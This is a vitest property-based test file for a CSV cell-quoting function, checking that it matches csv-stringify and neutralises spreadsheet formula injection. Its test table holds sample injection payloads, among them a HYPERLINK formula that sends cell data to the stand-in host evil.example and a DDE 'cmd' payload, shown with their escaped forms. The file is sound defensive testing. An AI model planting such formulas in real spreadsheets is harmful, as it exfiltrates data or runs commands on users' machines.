import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_STRINGIFY_OPTIONS, csvCell, neutraliseFormula } from '@/lib/values/csv';

// The answers written a row at a time (sample records, sample_status, the audit) quote their cells with csvCell; the
// answers written from records use csv-stringify with CSV_STRINGIFY_OPTIONS. Both must give the same bytes for any text.
const awkward = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom('a', ' ', ',', '"', '\r', '\n', '\t', ';', '=', '+', '-', '@', '1', '.', 'é', '🧬', '＝') }),
);

describe('csvCell', () => {
  it('quotes a cell exactly as csv-stringify does with the service’s options, whatever the text', () => {
    fc.assert(
      fc.property(fc.array(awkward, { minLength: 1, maxLength: 6 }), (row) => {
        expect(`${row.map(csvCell).join(',')}\n`).toBe(stringify([row], CSV_STRINGIFY_OPTIONS));
      }),
      { numRuns: 2000 },
    );
  });

  it('never lets a cell begin with a formula character a spreadsheet program would evaluate', () => {
    fc.assert(
      fc.property(awkward, (text) => {
        const cell = csvCell(text).replace(/^"/, '');
        const plainNumber = /^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$/.test(text);
        if (!plainNumber) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&B2,"details")', `"'=HYPERLINK(""https://evil.example/?""&B2,""details"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['＝1+1', "'＝1+1"],
  ])('neutralises %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it.each(['-33.865', '+44', '151.2093', '-0.5e3', 'Homo sapiens', '2024-05-01', ''])('leaves %j as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});
